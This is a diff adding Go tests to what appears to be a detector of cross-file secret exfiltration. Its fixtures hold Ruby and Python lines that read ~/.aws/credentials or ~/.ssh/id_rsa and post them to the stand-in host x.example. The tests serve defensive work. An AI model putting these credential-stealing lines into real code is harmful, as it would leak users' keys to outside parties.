@@ -41,3 +41,54 @@ func TestWork(t *testing.T) {
 		}
 	}
 }
+
+// TestLeftOut: a program that is not followed is told where it may be half of what a package
+// does, and only there.
+func TestLeftOut(t *testing.T) {
+	t.Parallel()
+	const reads, sends = "$k = File.read(File.expand_path('~/.aws/credentials'))\n", "require_relative 'zs'\nNet::HTTP.post(URI('https://x.example/'), $k)\n"
+	large := strings.Repeat("# a line\n", maxText/9+1)
+	many := make([]Text, 0, maxUnits+2)
+	for i := range maxUnits {
+		many = append(many, text(fmt.Sprintf("a%d.rb", i), "puts 1\n"))
+	}
+	long := []Text{text("s0.rb", reads)}
+	for i := range maxJoined + 5 {
+		long = append(long, text(fmt.Sprintf("s%d.rb", i+1), fmt.Sprintf("require_relative 's%d'\n", i)))
+	}
+	long = append(long, text("zz.rb", strings.Replace(sends, "zs", fmt.Sprintf("s%d", maxJoined+5), 1)))
+	for name, c := range map[string]struct {
+		texts []Text
+		want  bool
+	}{
+		"a large one reads":             {[]Text{text("zs.rb", reads+large), text("zz.rb", sends)}, true},
+		"a large one sends":             {[]Text{text("zs.rb", reads), text("zz.rb", sends+large)}, true},
+		"a large one, and nothing sent": {[]Text{text("zs.rb", reads+large), text("zz.rb", "puts 1\n")}, false},
+		"a large one does neither":      {[]Text{text("zs.rb", reads), text("zz.rb", sends), text("n.rb", large)}, false},
+		"behind many":                   {append(many, text("zs.rb", reads), text("zz.rb", sends)), true},
+		"one takes in the other":        {long, true},
+	} {
+		var why []string
+		Find(c.texts, nil, func(file, what string) { why = append(why, file+": "+what) })
+		if (len(why) > 0) != c.want {
+			t.Errorf("%s: %q is told", name, why)
+		}
+	}
+}
+
+// TestManyNames: what a scope defines is noted once, not with each of its statements.
+func TestManyNames(t *testing.T) {
+	t.Parallel()
+	var b strings.Builder
+	b.WriteString("k = open('/home/me/.ssh/id_rsa').read()\n")
+	for i := range 20_000 {
+		fmt.Fprintf(&b, "z%d = 1\n", i)
+	}
+	b.WriteString("requests.post('https://x.example/', data=k)\n")
+	source := text("a.py", b.String())
+	g := &group{work: &work{left: maxWork}, programs: []*program{read(&source.Text, "python")}}
+	g.load()
+	if n := len(g.gives); n != 20_001 {
+		t.Errorf("%d names have a value", n)
+	}
+}
